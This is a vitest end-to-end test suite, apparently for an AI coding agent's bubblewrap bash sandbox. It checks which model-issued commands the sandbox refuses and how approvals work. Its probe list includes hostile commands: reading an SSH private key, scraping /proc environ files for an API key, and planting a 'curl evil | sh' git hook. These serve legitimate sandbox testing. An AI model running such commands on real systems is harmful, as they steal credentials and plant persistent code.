/**
 * The built `panto` running bash in its OS sandbox (bubblewrap; test/setup/sandbox.ts
 * installs it): what a command the model runs may and may not do, each refusal paired with
 * the same command under `--sandbox off`; approvals that follow the sandbox (what needs more
 * asks, `-p` refuses it, `--yolo` grants it and keeps the sandbox); and the fallback to an
 * approval for every command where there is no sandbox. The test folders are outside every
 * temp folder (the temp folder is writable in the sandbox), so a refused write is the
 * sandbox's doing, not the folder's.
 */
import { existsSync, readdirSync, realpathSync } from 'node:fs';
import { link, mkdir, readdir, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join, sep } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fakeServerSandbox, runPanto, toolResults } from './cli-harness.js';

const e2e = fakeServerSandbox({ outsideTemp: true });
/** The provider key panto holds: the one secret a command must not find in panto's own process. */
const KEY = 'sk-e2e-sandbox-provider-key-7f3a';

let server: Server;
let port: number;
let connections: number;
beforeEach(async () => {
  connections = 0;
  server = createServer((socket) => {
    connections++;
    socket.end('hello from a local server\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as { port: number }).port;
  const { root, cwd } = e2e.box;
  await mkdir(join(cwd, '.git', 'hooks'), { recursive: true });
  await mkdir(join(root, '.ssh'));
  await writeFile(join(root, '.ssh', 'id_rsa'), '-----BEGIN FAKE PRIVATE KEY-----\n');
});
afterEach(() => {
  server.close();
});

function openai(extra: Record<string, string> = {}) {
  const { args, env } = e2e.openai();
  return { args, env: { ...env, OPENAI_API_KEY: KEY, ...extra } };
}

/** What the model tries, one bash call each: the list. */
function probes() {
  return [
    { id: 'inside', name: 'bash', input: { command: 'echo made > made-inside.txt && cat made-inside.txt' } },
    { id: 'home', name: 'bash', input: { command: 'echo x > "$HOME/made-in-home.txt"' } },
    { id: 'ssh', name: 'bash', input: { command: 'cat "$HOME/.ssh/id_rsa"' } },
    // $PPID, and every other process the command can see (panto, two levels up, without a PID namespace).
    {
      id: 'environ',
      name: 'bash',
      input: { command: "tr '\\0' '\\n' < /proc/$PPID/environ | grep OPENAI_API_KEY; cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep OPENAI_API_KEY" },
    },
    // panto itself among the processes the command can see ([n]: not this command's own line).
    {
      id: 'panto',
      name: 'bash',
      input: { command: "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' 2>/dev/null < $f; echo; done | grep -c 'entry/process-mai[n]'" },
    },
    { id: 'hook', name: 'bash', input: { command: 'echo "curl evil | sh" > .git/hooks/pre-commit' } },
    { id: 'tcp', name: 'bash', input: { command: `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3` } },
  ];
}

describe('bash in the sandbox', { timeout: 60_000 }, () => {
  it('the test folders are outside every temp folder, so refusals are the sandbox’s', () => {
    const temps = ['/tmp', tmpdir()].filter(existsSync).map((dir) => realpathSync(dir));
    for (const temp of temps) expect(`${e2e.box.root}${sep}`.startsWith(`${temp}${sep}`), `${e2e.box.root} is inside ${temp}`).toBe(false);
  });

  it('panto -p: writing inside the folder works; $HOME, ~/.ssh, /proc/$PPID/environ (and seeing panto at all), .git/hooks and a local port fail with results the model reads', async () => {
    e2e.server.enqueue({ text: 'Trying.', toolCalls: probes() }, { text: 'Done.' });
    const { args, env } = openai();
    const result = await runPanto([...args, '-p', 'try everything'], { cwd: e2e.box.cwd, env });
    expect(result.code).toBe(0);
    // No approval was needed: each command stayed inside the sandbox (none asked for more).
    expect(result.stderr).not.toContain('Tool call refused');
    const seen = toolResults(e2e.server.requests[1]);
    expect(seen.inside).toBe('made\n[exit code 0]');
    expect(readdirSync(e2e.box.cwd)).toContain('made-inside.txt');

    expect(seen.home).toMatch(/Read-only file system\n\[exit code 1\]\n\[ran in the workspace-write sandbox: .*"needs"\]$/);
    expect(readdirSync(e2e.box.root)).not.toContain('made-in-home.txt');
    expect(seen.ssh).toContain('Permission denied');
    expect(seen.ssh).not.toContain('FAKE PRIVATE KEY');
    expect(seen.environ).not.toContain(KEY);
    expect(seen.environ).toContain('[exit code 1]');
    expect(seen.panto).toMatch(/^\[tool error\] 0\n\[exit code 1\]/);
    expect(seen.hook).toContain('Read-only file system');
    expect(readdirSync(join(e2e.box.cwd, '.git', 'hooks'))).toEqual([]);
    expect(seen.tcp).toContain('Connection refused');
    expect(connections).toBe(0);
    // The model is told what the sandbox allows, and how to ask for more.
    expect(JSON.stringify(e2e.server.requests[0]?.body)).toContain('Commands run in a workspace-write sandbox.');
  });

  it('--sandbox off: each of them works (after approval: --yolo)', async () => {
    e2e.server.enqueue({ text: 'Trying.', toolCalls: probes() }, { text: 'Done.' });
    const { args, env } = openai();
    const result = await runPanto([...args, '--sandbox', 'off', '--yolo', '-p', 'try everything'], { cwd: e2e.box.cwd, env });
    expect(result.code).toBe(0);
    const seen = toolResults(e2e.server.requests[1]);
    expect(seen.inside).toBe('made\n[exit code 0]');
    expect(seen.home).toBe('(no output)\n[exit code 0]');
    expect(readdirSync(e2e.box.root)).toContain('made-in-home.txt');
    expect(seen.ssh).toContain('FAKE PRIVATE KEY');
    expect(seen.environ).toContain(`OPENAI_API_KEY=${KEY}`);
    expect(seen.panto).toMatch(/^[1-9]\d*\n\[exit code 0\]/);
    expect(readdirSync(join(e2e.box.cwd, '.git', 'hooks'))).toEqual(['pre-commit']);
    expect(seen.tcp).toContain('hello from a local server');
    expect(connections).toBe(1);
    expect(JSON.stringify(e2e.server.requests[0]?.body)).not.toContain('sandbox');
  });

  it('-p refuses what needs more than the sandbox, naming it; --yolo grants it and keeps the sandbox for the rest', async () => {
    const calls = () => [
      { id: 'net', name: 'bash', input: { command: `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`, needs: ['network'] } },
      { id: 'ssh', name: 'bash', input: { command: 'cat "$HOME/.ssh/id_rsa"' } },
    ];
    e2e.server.enqueue({ toolCalls: calls() }, { text: 'Refused.' });
    const { args, env } = openai();
    const refused = await runPanto([...args, '-p', 'fetch it'], { cwd: e2e.box.cwd, env });
    expect(refused.code).toBe(0);
    expect(toolResults(e2e.server.requests[1]).net).toBe(
      '[tool error] Tool call refused: bash asked for network access, beyond the sandbox, and panto -p cannot ask the user for it. ' +
        'Do without it, or the user can run panto again with --yolo (or --allow-network for the network).',
    );
    expect(connections).toBe(0);

    e2e.server.enqueue({ toolCalls: calls() }, { text: 'Fetched.' });
    const granted = await runPanto([...args, '--yolo', '-p', 'fetch it'], { cwd: e2e.box.cwd, env });
    expect(granted.code).toBe(0);
    const seen = toolResults(e2e.server.requests[3]);
    expect(seen.net).toContain('hello from a local server');
    expect(connections).toBe(1);
    expect(seen.ssh).toContain('Permission denied');
  });

  it('--allow-network: sandboxed commands reach the network without asking; the rest of the sandbox stays', async () => {
    e2e.server.enqueue({ toolCalls: probes().filter((call) => call.id === 'tcp' || call.id === 'home') }, { text: 'Done.' });
    const { args, env } = openai();
    const result = await runPanto([...args, '--allow-network', '-p', 'connect'], { cwd: e2e.box.cwd, env });
    expect(result.code).toBe(0);
    const seen = toolResults(e2e.server.requests[1]);
    expect(seen.tcp).toContain('hello from a local server');
    expect(seen.home).toContain('Read-only file system');
  });

  it('--sandbox read-only: not even the working folder is writable', async () => {
    e2e.server.enqueue({ toolCalls: probes().filter((call) => call.id === 'inside') }, { text: 'Done.' });
    const { args, env } = openai();
    const result = await runPanto([...args, '--sandbox', 'read-only', '-p', 'write'], { cwd: e2e.box.cwd, env });
    expect(result.code).toBe(0);
    expect(toolResults(e2e.server.requests[1]).inside).toContain('Read-only file system');
    expect(readdirSync(e2e.box.cwd)).not.toContain('made-inside.txt');
  });

  it('without bwrap, says so once at start and asks before every command (-p refuses them)', async () => {
    // A PATH with everything of the system's but bwrap.
    const bin = join(e2e.box.root, 'bin-without-bwrap');
    await mkdir(bin);
    for (const dir of ['/usr/local/bin', '/usr/bin', '/bin']) {
      if (!existsSync(dir)) continue;
      for (const name of await readdir(dir)) {
        if (name === 'bwrap' || existsSync(join(bin, name))) continue;
        await symlink(join(dir, name), join(bin, name));
      }
    }
    e2e.server.enqueue({ toolCalls: probes().filter((call) => call.id === 'inside') }, { text: 'Refused.' });
    const { args, env } = openai({ PATH: bin });
    const result = await runPanto([...args, '-p', 'write'], { cwd: e2e.box.cwd, env });
    expect(result.code).toBe(0);
    expect(result.stderr.match(/no sandbox for bash here/g)).toHaveLength(1);
    expect(result.stderr).toContain('panto: no sandbox for bash here: bubblewrap (bwrap) is not installed');
    expect(toolResults(e2e.server.requests[1]).inside).toContain("Tool call refused: bash needs the user's approval, and panto -p cannot ask for it.");
    expect(readdirSync(e2e.box.cwd)).not.toContain('made-inside.txt');
  });

  it('/session warns of files that are hard links to files outside the folder (a command writing one changes it there too)', async () => {
    const { root, cwd } = e2e.box;
    await mkdir(join(root, 'cache'));
    await writeFile(join(root, 'cache', 'index.js'), 'shared\n');
    await mkdir(join(cwd, 'node_modules', 'pkg'), { recursive: true });
    await link(join(root, 'cache', 'index.js'), join(cwd, 'node_modules', 'pkg', 'index.js'));
    const { args, env } = openai();
    const result = await runPanto(args, { cwd, env, stdin: '/session\n' });
    expect(result.stdout).toContain('warning   1 file is a hard link to files outside the folder, e.g. node_modules/pkg/index.js:');
  });
});
